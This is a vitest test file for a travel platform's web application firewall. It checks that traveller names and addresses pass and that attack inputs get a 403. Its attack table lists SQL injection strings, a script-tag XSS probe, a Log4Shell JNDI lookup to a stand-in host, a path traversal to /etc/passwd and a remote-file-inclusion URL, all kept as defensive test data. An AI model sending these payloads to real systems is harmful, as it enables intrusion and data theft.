import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { RequestRecord } from '../../emulator/kernel/events.js';
import { send } from '../helpers/gateway/wire.js';
import { type PlatformLab, platformLab } from '../helpers/platform.js';
import { roundTrip } from '../unit/platform/sample-trip.js';

const RECOMMENDATIONS = '/aggregation-api/servePassengerRecommendations';
let lab: PlatformLab;
const records: RequestRecord[] = [];
beforeAll(async () => {
  lab = await platformLab({ parameters: { RequestsPerAddress: '600' } });
  lab.emulator.events.on('request', (record) => void records.push(record));
}, 60_000);
afterAll(() => lab?.stop());

function texts(name: string): string[] {
  const file = fileURLToPath(new URL(`../fixtures/waf/${name}.txt`, import.meta.url));
  return readFileSync(file, 'utf8').split('\n').filter(Boolean);
}

/** A trip with a passenger for each text: the name they travel under. */
function tripOf(names: string[]): object {
  const trip = roundTrip();
  const passengers = names.map((lastName, i) => ({
    id: `P${i}`,
    type: 'ADT',
    firstName: "D'Arcy",
    lastName,
  }));
  const segments = trip.segments.map((segment: object) => ({ ...segment, passengerIds: undefined }));
  return { ...trip, pnr: 'FIRE01', pointOfSale: 'API', passengers, segments };
}

describe("the platform's firewall", () => {
  test('lets the names and addresses of travellers pass, and bodies beyond the 8 KB of the managed rule', async () => {
    const names = [...texts('travel'), ...texts('held-out-travel')];
    for (let at = 0; at < names.length; at += 90) {
      const body = tripOf(names.slice(at, at + 90));
      const { status, text } = await lab.post(RECOMMENDATIONS, body, lab.as('aulis-air'));
      expect(status, text).toBe(200);
      if (at === 0) expect(JSON.stringify(body).length).toBeGreaterThan(8192);
    }
  });
  test('lets a transfer to an address pass, in NDC', async () => {
    const search = {
      productCode: 'AIRPORT_TRANSFER',
      mode: 'one_way',
      num_passengers: 2,
      start_address: "Flughafen Frankfurt; Terminal 1, Halle B -- Ausgang 6 (hinter McDonald's)",
      end_address: "Calle de O'Donnell, 12, 3º izq. #4 / 28009 Madrid",
      pickup_datetime: '2030-03-01T10:00:00',
      currency: 'EUR',
    };
    const query = {
      Document: { Name: 'NDC' },
      Party: { Sender: { AgentUser: { Name: "O'Brien & Söhne <Reisen>", IATA_Number: '12345678' } } },
      ProductSearchInputs: [search],
      Metadata: { PointOfSale: 'AIRLINE_WEBSITE', Tenant: 'aulis-air' },
    };
    const { text } = await lab.post('/ndc-api/air-shopping', { AirShoppingRQ: query }, lab.as('aulis-air'));
    expect(text).not.toContain('firewall');
  });
  test('lets clients without a User-Agent pass', async () => {
    const answer = await send(Number(new URL(lab.url).port), '/health', {
      headers: ['Host: api.example.com'],
    });
    expect(answer.status).toBe(200);
  });

  const attacks: [rule: string, path: string, body?: object, headers?: Record<string, string>][] = [
    ['sql-injection/SQLi_BODY', RECOMMENDATIONS, tripOf(["x' OR 1=1 -- "])],
    ['sql-injection/SQLi_QUERYARGUMENTS', "/health?q=1'%20or%20'1'%3D'1"],
    ['common/CrossSiteScripting_BODY', '/checkout/verify', { correlationId: '<script>alert(1)</script>' }],
    [
      'known-bad-inputs/Log4JRCE_HEADER',
      '/health',
      undefined,
      { 'user-agent': '${jndi:ldap://x.example/a}' },
    ],
    ['common/GenericLFI_URIPATH', '/webhooks/..%2f..%2fetc%2fpasswd'],
    ['common/GenericRFI_BODY', '/webhooks', { url: 'http://203.0.113.9/hook', events: ['order.created'] }],
  ];
  for (const [rule, path, body, headers] of attacks)
    test(`stops ${rule}, in the contract's words`, async () => {
      const answer = await (body === undefined
        ? lab.get(path, headers)
        : lab.post(path, body, { ...lab.as('aulis-air'), ...headers }));
      expect(answer.status).toBe(403);
      const { error } = answer.body;
      expect(error).toMatchObject({
        code: 'PERMISSION_DENIED',
        message: 'The request was blocked by the firewall.',
      });
      expect(answer.headers.get('x-request-id')).toBe(error.requestId);
      expect(records.at(-1)?.decidedBy).toMatchObject({
        handler: 'waf',
        reason: expect.stringContaining(rule),
      });
    });

  test('stops an address that floods it, until five minutes are over', async () => {
    const statuses = new Set<number>();
    for (let i = 0; i < 600; i++) statuses.add((await lab.get('/health')).status);
    expect([...statuses]).toEqual([200, 403]);
    lab.emulator.clock.advance(310_000);
    expect((await lab.get('/health')).status).toBe(200);
  });
});
